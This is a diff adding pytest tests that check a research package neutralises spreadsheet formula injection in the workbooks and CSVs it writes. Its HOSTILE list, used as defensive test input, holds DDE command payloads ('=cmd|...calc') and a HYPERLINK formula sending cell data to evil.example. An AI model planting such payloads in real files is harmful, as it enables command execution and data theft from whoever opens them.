@@ -1,0 +1,238 @@
+"""No live formulas from user text: every workbook cell and CSV cell the package writes."""
+
+from __future__ import annotations
+
+import csv
+import io
+from dataclasses import replace
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from typer.testing import CliRunner
+
+from research.cli import app
+from research.safe_cells import FORMULA_START, csv_text, neutralise, unneutralise
+from research.segments import simulate_segments
+
+runner = CliRunner()
+
+#: Payloads from OWASP's CSV-injection page and the DDE attacks it cites.
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+def formula_cells(path: Path) -> list[tuple[str, str, str]]:
+    book = openpyxl.load_workbook(path)
+    return [
+        (ws.title, cell.coordinate, str(cell.value))
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+def csv_cells(path: Path) -> list[str]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def assert_csv_safe(path: Path) -> None:
+    bad = [c for c in csv_cells(path) if c.startswith(FORMULA_START) and not _number(c)]
+    assert bad == [], f"{path.name}: {bad[:3]}"
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_neutralise_round_trip():
+    for text in HOSTILE:
+        safe = neutralise(text)
+        assert safe.startswith("'") and unneutralise(safe) == text
+    assert neutralise("plain") == "plain" and neutralise(-3.5) == -3.5
+    assert unneutralise("'quoted") == "'quoted"  # only our own marker is removed
+    frame = pd.DataFrame({"=a": ["=1+1", "ok"], "n": [-1.5, 2.0]}, index=["@x", "y"])
+    text = csv_text(frame, raw=False)
+    assert "'=1+1" in text and "'=a" in text and "'@x" in text and "-1.5" in text
+    assert csv_text(frame, raw=True).count("'") == 0
+
+
+def test_report_workbook_keeps_hostile_text_as_text(demo_run, tmp_path):
+    from research.reports import write_workbook
+
+    content = demo_run.content
+    personas = [
+        replace(p, name=HOSTILE[i % len(HOSTILE)] + f" {i}") for i, p in enumerate(content.personas)
+    ]
+    loadings = content.loadings.copy()
+    loadings["text"] = HOSTILE[0]
+    loadings.index = [f"=item{i}" for i in range(len(loadings))]
+    quotes = content.quotes.copy()
+    quotes["quote"] = HOSTILE[1]
+    question_text = {k: HOSTILE[2] for k in content.question_text}
+    summary = content.summary.copy()
+    summary["value"] = HOSTILE[3]
+    hostile = replace(
+        content,
+        title=HOSTILE[4],
+        personas=personas,
+        loadings=loadings,
+        quotes=quotes,
+        question_text=question_text,
+        summary=summary,
+    )
+    path = write_workbook(hostile, tmp_path / "personas.xlsx")
+    live = formula_cells(path)
+    tool = content.typing_tool
+    n_tool = len(tool.questions) + len(tool.coefficients.index) + 2
+    assert len(live) == n_tool
+    assert {sheet for sheet, _, _ in live} == {"Typing tool"}
+    assert not any(word in text for _, _, text in live for word in ("cmd", "HYPERLINK", "SUM(1"))
+    book = openpyxl.load_workbook(path)
+    shown = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
+    assert HOSTILE[0] in shown and HOSTILE[1] in shown  # kept, visibly, as text
+
+
+def test_segment_command_outputs_are_inert(tmp_path):
+    sim = simulate_segments(300, n_items=6, n_classes=2, random_state=3)
+    frame = sim.data.copy()
+    frame.columns = [f"=cmd|' /C calc'!A{i}" if i % 2 else f"q{i}" for i in range(frame.shape[1])]
+    frame.index = [f"@r{i}" for i in range(len(frame))]
+    frame.index.name = "respondent_id"
+    data = tmp_path / "answers.csv"
+    frame.to_csv(data)
+    out = tmp_path / "seg"
+    result = runner.invoke(
+        app,
+        [
+            "segment", str(data), "--classes", "2", "--starts", "2", "--seed", "1",
+            "--out", str(out), "--stability", "0", "--questions", "3", "--no-progress",
+            "--created", "2026-01-01T00:00:00",
+        ],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    for path in out.glob("*.csv"):
+        assert_csv_safe(path)
+    live = formula_cells(out / "typing_tool.xlsx")
+    assert live and all("cmd" not in text for _, _, text in live)
+    first = (out / "typing_tool.xlsx").read_bytes()
+    again = tmp_path / "again"
+    runner.invoke(
+        app,
+        [
+            "segment", str(data), "--classes", "2", "--starts", "2", "--seed", "1",
+            "--out", str(again), "--stability", "0", "--questions", "3", "--no-progress",
+            "--created", "2026-01-01T00:00:00",
+        ],
+    )  # fmt: skip
+    assert (again / "typing_tool.xlsx").read_bytes() == first
+
+
+def test_questionnaire_workbooks_are_inert(tmp_path):
+    import yaml
+
+    example = Path(__file__).resolve().parents[1] / "questionnaires/examples/thrift-shoppers.yaml"
+    spec = yaml.safe_load(example.read_text(encoding="utf-8"))
+    spec["title"] = HOSTILE[1]
+    for n, construct in enumerate(spec["constructs"]):
+        construct["label"] = f"{HOSTILE[0]} {n}"
+    spec["scales"]["purchase_frequency"] = [f"{HOSTILE[n % 5]} {n}" for n in range(5)]
+    for block in spec["blocks"]:
+        block["title"] = HOSTILE[4]
+        for item in block["items"]:
+            item["text"] = HOSTILE[2]
+            if "choices" in item:
+                item["choices"] = [f"{HOSTILE[3]} {n}" for n in range(len(item["choices"]))]
+    q = tmp_path / "q.yaml"
+    q.write_text(yaml.safe_dump(spec, sort_keys=False), encoding="utf-8")
+    out = tmp_path / "built"
+    result = runner.invoke(app, ["questionnaire", "build", str(q), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    books = sorted(out.glob("*.xlsx"))
+    assert len(books) >= 2  # XLSForm and codebook
+    for book in books:
+        assert formula_cells(book) == [], book.name
+    texts = {
+        c.value
+        for book in books
+        for ws in openpyxl.load_workbook(book).worksheets
+        for row in ws.iter_rows()
+        for c in row
+    }
+    assert HOSTILE[2] in texts  # the wording is kept, as text
+
+
+def test_import_csvs_are_inert_and_reimport_unchanged(tmp_path):
+    rows = [["ResponseId", "Q1", "Q2"]]
+    texts = HOSTILE[:5] + ["plain answer"]
+    for i, text in enumerate(texts):
+        rows.append([f"R_{i}", str(1 + i % 5), text])
+    export = tmp_path / "export.csv"
+    with open(export, "w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows(rows)
+    q = tmp_path / "q.yaml"
+    q.write_text(
+        "id: t\ntitle: T\nblocks:\n  - id: b\n    items:\n"
+        "      - {id: Q1, type: numeric, text: How many}\n"
+        "      - {id: Q2, type: text, text: Why}\n"
+    )
+    out = tmp_path / "imported"
+    result = runner.invoke(
+        app, ["import", str(export), "--questionnaire", str(q), "--out", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    written = sorted(out.glob("*.csv"))
+    assert written
+    for path in written:
+        assert_csv_safe(path)
+    text_csv = out / "text.csv"
+    assert text_csv.exists()
+    back = pd.read_csv(text_csv, dtype=str, keep_default_na=False)
+    assert sorted(unneutralise(v) for v in back["Q2"]) == sorted(texts)
+    raw = tmp_path / "raw"
+    result = runner.invoke(
+        app, ["import", str(export), "-q", str(q), "--out", str(raw), "--raw-csv"]
+    )
+    assert result.exit_code == 0, result.output
+    assert sorted(pd.read_csv(raw / "text.csv", dtype=str)["Q2"]) == sorted(texts)
+
+
+def test_own_importer_removes_the_apostrophe(tmp_path):
+    from research.ingest import import_responses
+
+    path = tmp_path / "responses.csv"
+    frame = pd.DataFrame(
+        {"ResponseId": ["a", "b"], "Q1": ["=1+1", "fine"], "Q2": [1, 2]}
+    ).set_index("ResponseId")
+    path.write_text(csv_text(frame, raw=False))
+    assert "'=1+1" in path.read_text()
+    survey = import_responses(path)
+    labels = {c.label for item in survey.questionnaire.items for c in item.choices or []}
+    assert "=1+1" in labels and "'=1+1" not in labels
+
+
+def test_csv_text_leaves_numbers_alone():
+    frame = pd.DataFrame({"score": [-0.53, 1.2], "label": ["-0.53", "x"]})
+    rows = list(csv.reader(io.StringIO(csv_text(frame, index=False, raw=False))))
+    assert rows[1] == ["-0.53", "'-0.53"] and rows[2] == ["1.2", "x"]
+
+
+@pytest.mark.parametrize("value", ["1", "true", "yes"])
+def test_environment_opt_out(monkeypatch, value):
+    monkeypatch.setenv("RESEARCH_RAW_CSV", value)
+    assert "'" not in csv_text(pd.DataFrame({"a": ["=1"]}), index=False)
